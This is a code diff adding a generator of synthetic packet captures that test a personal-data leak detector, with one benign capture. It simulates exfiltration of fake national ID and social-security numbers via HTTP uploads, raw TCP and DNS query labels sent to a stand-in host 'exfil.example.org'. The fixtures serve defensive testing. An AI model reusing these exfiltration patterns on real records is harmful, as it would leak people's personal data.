@@ -492,6 +492,115 @@ def gen_behaviour(out):
         g(out)
 
 
+# ---------------------------------------------------------------------------
+# personal-data leak captures (docs/leak.md); the records come from pii.py
+
+LEAK_N = 300  # records per capture
+
+
+def send(c, d, data, mss=1000):
+    """data from side d in segments of mss bytes (identifiers are cut across segments), each ACKed."""
+    out = []
+    for i in range(0, len(data), mss):
+        out += [c.pkt(d, "PA", data[i:i + mss]), c.pkt(1 - d, "A")]
+    return out
+
+
+def write_conv(path, convs):
+    w = PcapWriter(path)
+    t = T0
+    for pkts in convs:
+        for p in pkts:
+            w.write(t, p)
+            t += 0.001
+    w.close()
+
+
+def gen_leak(out):
+    """Leak detection: synthetic personal records leaving the network in several forms, and a benign capture.
+
+    leak_http_csv.pcap       POST of a CSV file (text/csv), 192.168.10.5 -> 198.51.100.20:80
+    leak_http_gzip.pcap      GET answered with a chunked + gzip JSON body: internal server 192.168.10.7:8080 ->
+                             external client 203.0.113.9 (to_client, outbound)
+    leak_http_multipart.pcap multipart/form-data upload of an e-BDS file (B02 records)
+    leak_tcp_raw.pcap        raw TCP upload (port 9000) of the JSON document
+    leak_dns.pcap            60 DNS queries carrying a CNSS and a CIN number in their labels, one UDP flow
+    leak_benign.pcap         prices, timestamps, random digit runs, invalid RIBs: must not raise an incident
+    """
+    import gzip
+    import random
+    import pii
+    affil, recs = pii.records(LEAK_N)
+    csv, js, ebds = pii.to_csv(recs), pii.to_json(affil, recs), pii.to_ebds(affil, recs)
+    ok = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Type: text/plain\r\n\r\nok"
+
+    c = TcpConn("192.168.10.5", "198.51.100.20", 41000, 80)
+    req = (b"POST /hr/export HTTP/1.1\r\nHost: files.example.net\r\nContent-Type: text/csv\r\n"
+           b"Content-Length: " + str(len(csv)).encode() + b"\r\n\r\n" + csv)
+    write_conv(os.path.join(out, "leak_http_csv.pcap"),
+               [c.handshake(), send(c, 0, req), send(c, 1, ok), c.close()])
+
+    c = TcpConn("203.0.113.9", "192.168.10.7", 42000, 8080)
+    gz = gzip.compress(js, mtime=0)
+    body = b""
+    for i in range(0, len(gz), 700):
+        part = gz[i:i + 700]
+        body += b"%x\r\n" % len(part) + part + b"\r\n"
+    body += b"0\r\n\r\n"
+    resp = (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
+            b"Transfer-Encoding: chunked\r\n\r\n" + body)
+    req = b"GET /api/v1/salaries?page=1 HTTP/1.1\r\nHost: payroll.example.ma\r\nAccept: */*\r\n\r\n"
+    write_conv(os.path.join(out, "leak_http_gzip.pcap"),
+               [c.handshake(), send(c, 0, req), send(c, 1, resp), c.close()])
+
+    c = TcpConn("192.168.10.5", "198.51.100.21", 41001, 80)
+    bnd = b"----ribatboundary7MA4YWxk"
+    mp = (b"--" + bnd + b"\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nmonthly\r\n--" + bnd +
+          b"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bds_202412.txt\"\r\n"
+          b"Content-Type: text/plain\r\n\r\n" + ebds + b"\r\n--" + bnd + b"--\r\n")
+    req = (b"POST /upload HTTP/1.1\r\nHost: share.example.net\r\nContent-Type: multipart/form-data; boundary=" +
+           bnd + b"\r\nContent-Length: " + str(len(mp)).encode() + b"\r\n\r\n" + mp)
+    write_conv(os.path.join(out, "leak_http_multipart.pcap"),
+               [c.handshake(), send(c, 0, req, mss=1448), send(c, 1, ok), c.close()])
+
+    c = TcpConn("192.168.10.5", "198.51.100.22", 41002, 9000)
+    write_conv(os.path.join(out, "leak_tcp_raw.pcap"), [c.handshake(), send(c, 0, js, mss=512), c.close()])
+
+    w = PcapWriter(os.path.join(out, "leak_dns.pcap"))
+    t = T0
+    for i, x in enumerate(recs[:60]):
+        name = "cnss-%s.cin-%s.q%d.exfil.example.org" % (x["cnss"], x["cin"], i)
+        w.write(t, eth(ipv4("192.168.10.5", "198.51.100.53", 17,
+                            udp("192.168.10.5", "198.51.100.53", 53000, 53, dns_query(0x2000 + i, name)))))
+        t += 0.01
+    w.close()
+
+    # benign: numbers everywhere, none of them a valid identifier in context
+    r = random.Random(11)
+    lines = ["date;order;amount;ref;ts;note"]
+    for i in range(400):
+        bad_rib = pii.rib_of(r)
+        bad_rib = bad_rib[:-2] + "%02d" % ((int(bad_rib[-2:]) % 96) + 1 if bad_rib[-2:] != "97" else 1)
+        if int(bad_rib) % 97 == 0:
+            bad_rib = bad_rib[:-1] + str((int(bad_rib[-1]) + 1) % 10)
+        run = "".join(str(r.randint(0, 9)) for _ in range(r.choice([5, 6, 8, 11, 12, 13, 14, 17, 20, 30])))
+        lines.append("2024-12-%02d;%d;%d.%02d MAD;%s;%d;%s" % (
+            1 + i % 28, 100000000 + r.randint(0, 899999999), r.randint(1, 99999), r.randint(0, 99), bad_rib,
+            1732700000000 + r.randint(0, 10 ** 9), run))
+    page = ("\n".join(lines) + "\n").encode()
+    c = TcpConn("192.168.10.5", "198.51.100.30", 41003, 80)
+    req = b"GET /report.csv HTTP/1.1\r\nHost: shop.example.net\r\n\r\n"
+    resp = b"HTTP/1.1 200 OK\r\nContent-Type: text/csv\r\nContent-Length: " + str(len(page)).encode() + \
+        b"\r\n\r\n" + page
+    c2 = TcpConn("192.168.10.5", "198.51.100.31", 41004, 80)
+    form = b"q=price+list&from=2024-12-01&to=2024-12-31&amount=1234567&code=9876543"
+    req2 = (b"POST /search HTTP/1.1\r\nHost: shop.example.net\r\nContent-Type: application/x-www-form-urlencoded"
+            b"\r\nContent-Length: " + str(len(form)).encode() + b"\r\n\r\n" + form)
+    write_conv(os.path.join(out, "leak_benign.pcap"),
+               [c.handshake(), send(c, 0, req), send(c, 1, resp), c.close(),
+                c2.handshake(), send(c2, 0, req2), send(c2, 1, ok), c2.close()])
+
+
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
     os.makedirs(out, exist_ok=True)
@@ -505,6 +614,7 @@ def main():
     gen_sample(out)
     gen_truncated(out)
     gen_behaviour(out)
+    gen_leak(out)
 
 
 if __name__ == "__main__":
